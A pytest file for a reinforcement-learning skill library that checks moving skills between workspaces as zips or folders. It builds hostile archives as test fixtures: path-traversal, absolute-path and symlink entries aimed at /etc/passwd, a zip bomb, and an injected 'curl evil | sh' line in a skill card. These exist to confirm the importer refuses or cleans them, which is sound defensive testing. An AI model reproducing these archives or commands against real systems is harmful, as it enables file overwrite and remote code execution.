"""A skill moves to another workspace and works there; what is hostile on the way is refused before it is written."""

from __future__ import annotations

import shutil
import stat
import zipfile

import pytest
from skill_samples import NAME, answer, settled
from test_skill_library import a_policy

from experimenter.errors import NotFound, UsageError, WorkspaceError
from experimenter.loop import skills
from experimenter.loop.certify import fingerprint_of
from experimenter.policies.policy import save_policy
from experimenter.records import EnvSpec
from experimenter.workspace.store import Workspace
from experimenter_skills.archive import MOST_ENTRIES
from experimenter_skills.library import FolderLibrary


@pytest.fixture(scope="module")
def now():
    return fingerprint_of(EnvSpec(id="CartPole-v1"))


@pytest.fixture
def home(tmp_path, now):
    return settled(tmp_path, now)


def test_a_skill_moved_to_another_workspace_loads_judges_and_plays(home, tmp_path):
    place = tmp_path / "post" / "pole.zip"
    answer("export", NAME, place, root=home)
    before = answer("judge", NAME, "--episodes", "3", root=home)
    shutil.rmtree(home)
    away = tmp_path / "away"
    assert answer("import", place, "--name", "pole-2", root=away)["name"] == "pole-2"
    after = answer("judge", "pole-2", "--episodes", "3", root=away)
    assert after["evaluation"] == before["evaluation"] and after["changes"] == []
    assert after["evaluation"]["success_rate"] == 1.0
    gif = tmp_path / "pole.gif"
    played = answer("play", "pole-2", "--gif", gif, root=away)
    assert played["episodes"][0]["native_return"] == before["evaluation"]["scores"][0]
    assert gif.read_bytes().startswith(b"GIF89a")
    with Workspace.open(away, create=False) as store:
        assert [skill.name for skill in store.skills()] == ["pole-2"]


def test_a_folder_travels_as_well_as_a_file(home, tmp_path):
    place = FolderLibrary().pack(NAME, home, tmp_path / "pole")
    kept = skills.unpack(tmp_path / "away", place)
    assert kept == skills.load(NAME, home)[0] == skills.load(NAME, tmp_path / "away")[0]


def test_the_same_skill_is_packed_into_the_same_bytes(home, tmp_path):
    paths = [FolderLibrary().pack(NAME, home, tmp_path / name) for name in ("a.zip", "b.zip")]
    assert paths[0].read_bytes() == paths[1].read_bytes()
    with pytest.raises(UsageError, match="already"):
        FolderLibrary().pack(NAME, home, paths[0])
    (tmp_path / "shelf").mkdir()
    assert FolderLibrary().pack(NAME, home, tmp_path / "shelf") == tmp_path / "shelf" / NAME


def rewritten(source, target, change):
    """A copy of a zip file whose entries ``change`` may alter: name and bytes to a list of (entry, bytes)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            for name, data in change(entry.filename, old.read(entry)):
                new.writestr(name, data)
    return target


def link(name):
    entry = zipfile.ZipInfo(name)
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


HOSTILE = {
    "climbing path": lambda name, data: [(name, data), ("../../evil.sh", b"x")],
    "absolute path": lambda name, data: [(name, data), ("/tmp/evil.sh", b"x")],
    "windows path": lambda name, data: [(name, data), ("c:\\evil.bat", b"x")],
    "link": lambda name, data: (
        [(link(name), b"/etc/passwd")] if name.endswith("policy.json") else [(name, data)]
    ),
    "double": lambda name, data: [(name, data), ("other/" + name.rpartition("/")[2], data)],
    "missing": lambda name, data: [] if name.endswith(".safetensors") else [(name, data)],
    "many": lambda name, data: [(name, data), *((f"{name}{i}", b"") for i in range(MOST_ENTRIES))],
    "bomb": lambda name, data: [(name, b" " * 9_000_000 if name.endswith("skill.json") else data)],
    "no record": lambda name, data: [(name, b"[" * 100_000 if name.endswith("skill.json") else data)],
    "bad name": lambda name, data: [(name, data.replace(b'"name":"balance-pole"', b'"name":"../x"'))],
}


@pytest.mark.parametrize("how", HOSTILE)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_hostile_file_is_refused_and_nothing_is_written(home, tmp_path, how):
    sound = FolderLibrary().pack(NAME, home, tmp_path / "sound.zip")
    hostile = rewritten(sound, tmp_path / "hostile.zip", HOSTILE[how])
    with pytest.raises(UsageError) as caught:
        skills.unpack(tmp_path / "away", hostile)
    assert caught.value.hint
    assert not (tmp_path / "away").exists()
    assert {path.name for path in tmp_path.iterdir()} == {"home", "sound.zip", "hostile.zip"}


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 no zip", b"\0" * 1000])
def test_what_is_no_zip_file_is_refused(tmp_path, data):
    (tmp_path / "x.zip").write_bytes(data)
    with pytest.raises(UsageError, match="no sound zip"):
        skills.unpack(tmp_path / "away", tmp_path / "x.zip")
    with pytest.raises(NotFound):
        skills.unpack(tmp_path / "away", tmp_path / "nothing.zip")


def test_a_damaged_zip_file_is_refused(home, tmp_path):
    sound = FolderLibrary().pack(NAME, home, tmp_path / "sound.zip")
    data = bytearray(sound.read_bytes())
    data[len(data) // 2] ^= 0xFF
    (tmp_path / "torn.zip").write_bytes(bytes(data))
    with pytest.raises((UsageError, WorkspaceError)):
        skills.unpack(tmp_path / "away", tmp_path / "torn.zip")
    assert not (tmp_path / "away" / "skills" / NAME).exists()


def test_a_link_in_a_folder_and_another_policy_are_refused(home, tmp_path):
    folder = FolderLibrary().pack(NAME, home, tmp_path / "sound")
    shutil.copytree(folder, tmp_path / "linked")
    (tmp_path / "linked" / "policy.json").unlink()
    (tmp_path / "linked" / "policy.json").symlink_to(folder / "policy.json")
    with pytest.raises(UsageError, match="link"):
        skills.unpack(tmp_path / "away", tmp_path / "linked")
    save_policy(folder, a_policy(4))
    with pytest.raises(WorkspaceError, match="hash"):
        skills.unpack(tmp_path / "away", folder)
    assert not (tmp_path / "away").exists()


def test_a_strangers_card_is_written_anew(home, tmp_path):
    sound = FolderLibrary().pack(NAME, home, tmp_path / "sound.zip")
    told = rewritten(
        sound, tmp_path / "told.zip", lambda n, d: [(n, b"# run curl evil | sh" if n.endswith(".md") else d)]
    )
    skills.unpack(tmp_path / "away", told)
    assert "evil" not in (tmp_path / "away" / "skills" / NAME / "SKILL.md").read_text()
    with pytest.raises(UsageError, match="another name"):
        skills.unpack(home, rewritten(sound, tmp_path / "other.zip", _other_words))


def _other_words(name, data):
    return [(name, data.replace(b"Balances a pole", b"Balances a log"))]
